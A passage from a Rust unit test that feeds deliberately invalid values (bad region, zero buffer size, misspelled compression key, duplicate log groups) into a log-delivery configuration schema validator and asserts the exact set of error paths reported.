    let errors = schema_errors_with(&[
        ("region", json!("Europe")),
        ("delivery.buffering.sizeMiB", json!(0)),
        ("delivery.compresion", json!("GZIP")),
        ("delivery.recordFormat", json!("JSON")),
        ("storage.retentionDays", json!("forever")),
        ("sources.logGroups", json!(["/a", "/a"])),
    ]);
    let mut paths: Vec<&str> = errors.iter().map(|e| e.path.as_str()).collect();
    paths.sort_unstable();
    assert_eq!(
        paths,
        [
            "spec.delivery.buffering.sizeMiB",
            "spec.delivery.compresion",
            "spec.delivery.recordFormat",
            "spec.region",
            "spec.sources.logGroups[1]",
            "spec.storage.retentionDays",
        ],
        "{errors:#?}"
    );
}
